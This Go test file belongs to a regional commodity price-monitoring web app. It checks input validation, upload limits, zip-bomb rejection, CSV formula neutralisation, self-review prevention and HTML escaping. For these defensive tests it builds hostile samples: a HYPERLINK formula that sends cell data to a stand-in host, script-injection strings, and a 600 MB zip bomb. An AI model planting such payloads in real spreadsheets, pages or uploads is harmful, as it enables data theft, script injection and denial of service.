package prices_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/sodamolek/sodamolek/internal/apptest"
	"github.com/sodamolek/sodamolek/internal/platform/auth"
	"github.com/sodamolek/sodamolek/internal/prices"
)

// TestBadInputNeverFails500 sends malformed query parameters and bodies
// to the public and staff endpoints: each must be refused (4xx) or
// answered, never a server error.
func TestBadInputNeverFails500(t *testing.T) {
	h := start(t)
	h.send("enum.disperindag", entry{Key: key(), Market: "psr-oeba", Commodity: "ikan-kembung", Day: today, Price: 50000})
	gets := []string{
		"/harga?tanggal=0000-01-01", "/harga?tanggal=9999-12-31", "/harga?tanggal=2026-13-40", "/harga?tanggal=%00",
		"/harga/disparitas?tanggal=0001-01-01", "/harga/komoditas/%3Cscript%3E", "/harga/komoditas/beras-medium?rentang=x",
		"/harga/inflasi?keranjang=%3Cx%3E", "/harga/asal?tanggal=0001-01-01", "/harga/asal?dari=0001-01-01&sampai=9999-12-31",
		"/api/v1/prices/board?date=0001-01-01", "/api/v1/prices/board?date=9999-12-31", "/api/v1/prices/board?date=abc",
		"/api/v1/prices/series?commodity=beras-medium&from=0000-01-01&to=9999-12-31",
		"/api/v1/prices/series?commodity=beras-medium&from=0000-01-01&to=0000-01-01",
		"/api/v1/prices/series?commodity=beras-medium&to=0000-01-01",
		"/api/v1/prices/series?commodity=beras-medium&from=0001-01-01&to=9999-12-31&granularity=day",
		"/api/v1/prices/series?commodity=nope", "/api/v1/prices/series?commodity=beras-medium&from=2026-99-01",
		"/api/v1/prices/disparity?date=0001-01-01",
		"/api/v1/price-index?basket=nope", "/api/v1/price-index?basket=Kupang&from=0000-00&to=9999-12",
		"/api/v1/price-index?basket=Kupang&from=2026-13", "/api/v1/price-index?basket=Kupang&from=-1-01",
		"/api/v1/prices/inflows?from=0001-01-01&to=9999-12-31", "/api/v1/prices/inflows?date=xyz", "/api/v1/prices/inflows?from=abc",
		"/api/v1/prices/export/prices.csv?from=0001-01-01&to=9999-12-31", "/api/v1/prices/export/prices.csv?to=0000-01-01",
		"/api/v1/prices/export/prices.xlsx?commodity=nope", "/api/v1/prices/export/prices.csv?market=nope",
		"/api/v1/prices/export/index.csv?basket=nope", "/api/v1/prices/export/index.xlsx?basket=Kupang&from=9999-12",
		"/api/v1/prices/export/inflows.csv?from=0000-01-01", "/api/v1/prices/export/inflows.csv?to=x",
	}
	for _, p := range gets {
		if status, body := h.do("", "GET", p, nil); status >= 500 {
			t.Errorf("GET %s = %d %.300s", p, status, body)
		}
	}
	staff := []struct{ user, path string }{
		{"spv.disperindag", "/api/v1/prices/observations?status=x"}, {"spv.disperindag", "/api/v1/prices/observations?date=0000-01-01"},
		{"spv.disperindag", "/api/v1/prices/observations/99999999999999999999"}, {"spv.disperindag", "/api/v1/prices/observations/-1"},
		{"spv.disperindag", "/harga/tinjau/abc"}, {"spv.disperindag", "/harga/tinjau?tanggal=x&status=%3Cb%3E"},
		{"enum.disperindag", "/harga/input/nope"}, {"enum.disperindag", "/harga/input/psr-oeba?pedagang=-1&ok=x"},
		{"tpid", "/api/v1/prices/alerts?from=0000-01-01"}, {"tpid", "/harga/peringatan?status=x"},
		{"admin.disperindag", "/harga/kelola/keranjang/abc"}, {"admin.disperindag", "/harga/kelola/komoditas/%3Cx%3E"},
	}
	for _, s := range staff {
		if status, body := h.do(s.user, "GET", s.path, nil); status >= 500 {
			t.Errorf("GET %s as %s = %d %.300s", s.path, s.user, status, body)
		}
	}
	bodies := []string{`{`, `[]`, `{"observations":null}`, `{"observations":[{"price":"x"}]}`, `{"observations":[{"price":1e400}]}`,
		`{"observations":[{"key":"abcdefgh1","market":"psr-oeba","commodity":"kangkung","day":"2026-12-04","price":-1}]}`,
		`{"observations":[{"key":"abcdefgh2","market":"psr-oeba","commodity":"kangkung","day":"0001-01-01","price":5}]}`,
		`{"observations":[{"key":"abcdefgh3","market":"psr-oeba","commodity":"kangkung","day":"2026-12-04","price":5,"trader":-5}]}`,
		`{"observations":[{"key":"abcdefgh4","market":"psr-oeba","commodity":"kangkung","day":"2026-12-04","price":5,"trader":9223372036854775807}]}`,
		`{"observations":[{"key":"abcdefgh5","market":"psr-oeba","commodity":"kangkung","day":"2026-12-04","price":1e-300}]}`,
	}
	for _, b := range bodies {
		resp, out := apptest.Do(t, h.s.Client(), "POST", h.s.URL+"/api/v1/prices/observations", "application/json", b,
			http.Header{"Authorization": {"Bearer " + h.token("enum.disperindag")}})
		if resp.StatusCode >= 500 {
			t.Errorf("POST observations %s = %d %.300s", b, resp.StatusCode, out)
		}
	}
	for _, b := range []string{`{`, `{"action":"correct","price":1e308}`, `{"action":"correct","price":-1,"note":"x"}`, `{"action":"approve","price":"x"}`} {
		resp, out := apptest.Do(t, h.s.Client(), "POST", h.s.URL+"/api/v1/prices/observations/1/review", "application/json", b,
			http.Header{"Authorization": {"Bearer " + h.token("spv.disperindag")}})
		if resp.StatusCode >= 500 {
			t.Errorf("POST review %s = %d %.300s", b, resp.StatusCode, out)
		}
	}
	for _, b := range []string{`{`, `{"day":"0001-01-01"}`, `{"day":"2026-12-04","commodity":"ikan-kembung","quantity":1e308,"unit":"kg"}`,
		`{"day":"2026-12-04","commodity":"ikan-kembung","quantity":5,"unit":"kg","mode":"ship","origin":"x","entry_point":"tpi-oeba","key":"` + strings.Repeat("k", 200) + `"}`} {
		resp, out := apptest.Do(t, h.s.Client(), "POST", h.s.URL+"/api/v1/prices/inflows", "application/json", b,
			http.Header{"Authorization": {"Bearer " + h.token("enum.disperindag")}})
		if resp.StatusCode >= 500 {
			t.Errorf("POST inflows %s = %d %.300s", b, resp.StatusCode, out)
		}
	}
	forms := []struct{ user, path, form string }{
		{"enum.disperindag", "/harga/input/psr-oeba", url.Values{"batch": {"x"}, "day": {"0001-01-01"}, "trader": {"abc"}, "p_kangkung": {"NaN"}}.Encode()},
		{"enum.disperindag", "/harga/input/psr-oeba", url.Values{"batch": {"abcdefgh-ok"}, "day": {today}, "trader": {"99999"}, "p_kangkung": {"Inf"}}.Encode()},
		{"enum.disperindag", "/harga/asal/catat", url.Values{"day": {"x"}, "quantity": {"NaN"}}.Encode()},
		{"spv.disperindag", "/harga/tinjau/1", url.Values{"action": {"correct"}, "price": {"1e999"}, "note": {"x"}}.Encode()},
		{"spv.disperindag", "/harga/tinjau/999999", url.Values{"action": {"approve"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/pasar/baru", url.Values{"code": {"<x>"}, "name": {"x"}, "lat": {"1e400"}, "lon": {"5"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/pasar/psr-oeba/pedagang", url.Values{"id": {"-5"}, "name": {"x"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/komoditas/baru", url.Values{"code": {"x y"}, "het": {"-1"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/komoditas/beras-medium/acuan", url.Values{"price": {"NaN"}, "valid_from": {"0000-00-00"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/komoditas/beras-medium/acuan/999/hapus", ""},
		{"admin.disperindag", "/harga/kelola/keranjang/baru", url.Values{"name": {"x"}, "base": {"0000-00"}, "weights": {"a,b\n"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/pengaturan", url.Values{"deviation_pct": {"NaN"}, "weekly_rise_pct": {"-1e308"}}.Encode()},
		{"admin.disperindag", "/harga/kelola/asal", url.Values{"code": {"99.99"}, "name": {""}, "lat": {"x"}}.Encode()},
	}
	for _, f := range forms {
		if status, body := h.do(f.user, "POST", f.path, f.form); status >= 500 {
			t.Errorf("POST %s as %s = %d %.300s", f.path, f.user, status, body)
		}
	}
}

// signIn signs user in through the staff form like a browser and returns
// the client (session cookie in its jar).
func (h *harness) signIn(user string) *http.Client {
	h.t.Helper()
	c := h.s.Client()
	_, page := apptest.Get(h.t, c, h.s.URL+"/masuk")
	m := csrfField.FindStringSubmatch(page)
	if m == nil {
		h.t.Fatal("sign-in page has no CSRF token")
	}
	form := url.Values{"csrf_token": {m[1]}, "username": {user}, "password": {password}}
	resp, body := apptest.Do(h.t, c, "POST", h.s.URL+"/masuk", "application/x-www-form-urlencoded", form.Encode(), nil)
	if resp.StatusCode != http.StatusSeeOther {
		h.t.Fatalf("sign-in as %s = %d %.300s", user, resp.StatusCode, body)
	}
	return c
}

var csrfField = regexp.MustCompile(`name="csrf_token" value="([^"]+)"`)

// TestImportUploadTooLarge: an upload over the cap is refused with a clear
// message and nothing is imported, also from a browser session (whose
// CSRF check reads the form before the handler runs).
func TestImportUploadTooLarge(t *testing.T) {
	h := start(t)
	defer prices.SetMaxUpload(4 << 10)()
	var sb strings.Builder
	sb.WriteString("date,market_code,commodity_code,price\n")
	for sb.Len() < 8<<10 {
		sb.WriteString("2026-12-02,psr-oeba,beras-medium,13500\n")
	}
	c := h.signIn("admin.disperindag")
	_, page := apptest.Get(t, c, h.s.URL+"/harga/kelola/impor")
	m := csrfField.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("import page has no CSRF token: %.500s", page)
	}
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("csrf_token", m[1])
	_ = mw.WriteField("kind", "observations")
	fw, _ := mw.CreateFormFile("file", "data.csv")
	_, _ = fw.Write([]byte(sb.String()))
	_ = mw.Close()
	resp, body := apptest.Do(t, c, "POST", h.s.URL+"/harga/kelola/impor", mw.FormDataContentType(), buf.String(), nil)
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "terlalu besar") {
		t.Errorf("oversized upload = %d %.1500s", resp.StatusCode, body)
	}
	// Through the API with a bearer token (no CSRF check reads the form).
	buf.Reset()
	mw = multipart.NewWriter(&buf)
	_ = mw.WriteField("kind", "observations")
	fw, _ = mw.CreateFormFile("file", "data.csv")
	_, _ = fw.Write([]byte(sb.String()))
	_ = mw.Close()
	resp, body = apptest.Do(t, h.s.Client(), "POST", h.s.URL+"/harga/kelola/impor", mw.FormDataContentType(), buf.String(),
		http.Header{"Authorization": {"Bearer " + h.token("admin.disperindag")}})
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "terlalu besar") {
		t.Errorf("oversized upload with a token = %d %.1500s", resp.StatusCode, body)
	}
	if n := h.countPrices("beras-medium", "2026-11-01", today); n != 0 {
		t.Errorf("%d prices imported from an oversized upload", n)
	}
}

// TestXLSXZipBombRefused: a workbook whose parts inflate far beyond any
// real price history is refused before it is inflated into memory.
func TestXLSXZipBombRefused(t *testing.T) {
	h := start(t)
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range []string{"[Content_Types].xml", "xl/workbook.xml", "xl/bomb.xml"} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if name == "xl/bomb.xml" {
			zeros := make([]byte, 1<<20)
			for range 600 { // 600 MB inflated, about 600 kB in the file
				_, _ = w.Write(zeros)
			}
		}
	}
	_ = zw.Close()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	res, err := h.store.Import(context.Background(), prices.Actor{System: "test"}, "observations", bytes.NewReader(buf.Bytes()))
	runtime.ReadMemStats(&after)
	if !errors.Is(err, prices.ErrInvalidFile) || len(res.Errors) != 1 || res.Errors[0].Key != "prices.import.xlsx" {
		t.Fatalf("zip bomb import = %v %+v", err, res.Errors)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 200<<20 {
		t.Errorf("the import allocated %d MB for a %d kB file", grew>>20, buf.Len()>>10)
	}
}

// TestExportsNeutraliseFormulas: text that a spreadsheet would run as a
// formula (=, +, -, @ first) is exported as text in the open-data CSV.
func TestExportsNeutraliseFormulas(t *testing.T) {
	h := start(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
	form := url.Values{"code": {"53.99"}, "name": {evil}, "province": {"@SUM(1+1)"}}
	if status, body := h.do("admin.disperindag", "POST", "/harga/kelola/asal", form.Encode()); status != 303 {
		t.Fatalf("origin = %d %.500s", status, body)
	}
	status, body := h.do("enum.disperindag", "POST", "/api/v1/prices/inflows", map[string]any{"day": today, "commodity": "ikan-kembung",
		"quantity": 5, "unit": "kg", "origin": "53.99", "mode": "ship", "entry_point": "tpi-oeba"})
	if status >= 300 {
		t.Fatalf("inflow = %d %.500s", status, body)
	}
	status, body = h.do("", "GET", "/api/v1/prices/export/inflows.csv", nil)
	if status != 200 {
		t.Fatalf("export = %d %.300s", status, body)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("formula cell %q in %q", cell, rec)
			}
			found = found || strings.Contains(cell, "HYPERLINK")
		}
	}
	if !found {
		t.Errorf("the origin is missing from the export:\n%s", body)
	}
	// A workbook keeps the text as it is, as a string cell, not a formula.
	status, body = h.do("", "GET", "/api/v1/prices/export/inflows.xlsx", nil)
	if status != 200 {
		t.Fatalf("xlsx export = %d", status)
	}
	f, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	if v, _ := f.GetCellValue(sheet, "F2"); v != evil {
		t.Errorf("xlsx origin = %q", v)
	}
	if formula, _ := f.GetCellFormula(sheet, "F2"); formula != "" {
		t.Errorf("xlsx origin is a formula: %q", formula)
	}
}

// TestImportLongTraderName: a trader name longer than a trader may have is
// a bad line of the file, not a database error.
func TestImportLongTraderName(t *testing.T) {
	h := start(t)
	name := strings.Repeat("Ibu Ani ", 1000)
	res, err := h.store.Import(context.Background(), prices.Actor{System: "test"}, "observations",
		strings.NewReader("date,market_code,commodity_code,price,trader\n2026-12-02,psr-oeba,beras-medium,13500,"+name+"\n"))
	if !errors.Is(err, prices.ErrInvalidFile) || len(res.Errors) != 1 || res.Errors[0].Line != 2 {
		t.Fatalf("import = %v %+v", err, res.Errors)
	}
}

// TestNoReviewOfOwnEntries: one holding both the enumerator's and the
// supervisor's rights cannot approve, correct or reject their own entry.
func TestNoReviewOfOwnEntries(t *testing.T) {
	h := start(t)
	if _, err := h.s.App.Deps.Auth.CreateStaff(context.Background(), nil, auth.NewStaff{Username: "both.disperindag", Name: "both", UnitCode: "disperindag",
		Password: password, Roles: []string{"enumerator", "supervisor"}}); err != nil {
		t.Fatal(err)
	}
	r := h.send("both.disperindag", entry{Key: key(), Market: "psr-oeba", Commodity: "gula-konsumsi", Day: today, Price: 18000})
	if r[0].Status != "created" {
		t.Fatalf("entry = %+v", r[0])
	}
	id := itoa(r[0].ID)
	for _, body := range []map[string]any{{"action": "approve"}, {"action": "correct", "price": 17000, "note": "x"}, {"action": "reject", "note": "x"}} {
		if status, out := h.do("both.disperindag", "POST", "/api/v1/prices/observations/"+id+"/review", body); status != 422 {
			t.Errorf("own review %v = %d %.300s", body, status, out)
		}
	}
	if status, _ := h.do("both.disperindag", "POST", "/harga/tinjau/"+id, url.Values{"action": {"approve"}}.Encode()); status != 422 {
		t.Errorf("own review form = %d", status)
	}
	// Another supervisor may.
	if status, out := h.do("spv.disperindag", "POST", "/api/v1/prices/observations/"+id+"/review", map[string]any{"action": "approve"}); status != 200 {
		t.Errorf("review = %d %.300s", status, out)
	}
}

// TestPagesEscapeNames: names typed by people (commodity, variety, unit,
// trader, reason) appear as text on every page that shows them.
func TestPagesEscapeNames(t *testing.T) {
	h := start(t)
	const evil = `<script>alert(1)</script>`
	h.importCSV("commodities", "code,name,unit,group_code,variety\nuji-xss,"+evil+",kg,01,"+evil+"\n")
	if status, body := h.do("admin.disperindag", "POST", "/harga/kelola/pasar/psr-oeba/pedagang", url.Values{"name": {`<img src=x>` + "Ani"}}.Encode()); status != 303 {
		t.Fatalf("trader = %d %.300s", status, body)
	}
	traders := mustTraders(t, h, "psr-oeba")
	r := h.send("enum.disperindag", entry{Key: key(), Market: "psr-oeba", Commodity: "uji-xss", Day: today, Price: 1000, Trader: traders[0], Reason: evil})
	if r[0].ID == 0 {
		t.Fatalf("entry = %+v", r[0])
	}
	pages := []struct{ user, path string }{
		{"", "/harga"}, {"", "/harga/komoditas/uji-xss"}, {"", "/harga/disparitas"}, {"", "/harga/asal"},
		{"enum.disperindag", "/harga/input/psr-oeba"}, {"spv.disperindag", "/harga/tinjau"}, {"spv.disperindag", "/harga/tinjau/" + itoa(r[0].ID)},
		{"admin.disperindag", "/harga/kelola"}, {"admin.disperindag", "/harga/kelola/komoditas/uji-xss"}, {"admin.disperindag", "/harga/kelola/pasar/psr-oeba"},
	}
	for _, p := range pages {
		status, body := h.do(p.user, "GET", p.path, nil)
		if status != 200 {
			t.Errorf("GET %s = %d", p.path, status)
			continue
		}
		if strings.Contains(body, "<script>alert") || strings.Contains(body, "<img src=x>") {
			t.Errorf("GET %s shows markup from a name", p.path)
		}
	}
}

func mustTraders(t *testing.T, h *harness, market string) []int64 {
	t.Helper()
	mk, err := h.store.MarketByCode(context.Background(), market)
	if err != nil {
		t.Fatal(err)
	}
	ts, err := h.store.Traders(context.Background(), mk.ID, true)
	if err != nil || len(ts) == 0 {
		t.Fatalf("traders: %v %v", ts, err)
	}
	var ids []int64
	for _, tr := range ts {
		ids = append(ids, tr.ID)
	}
	return ids
}
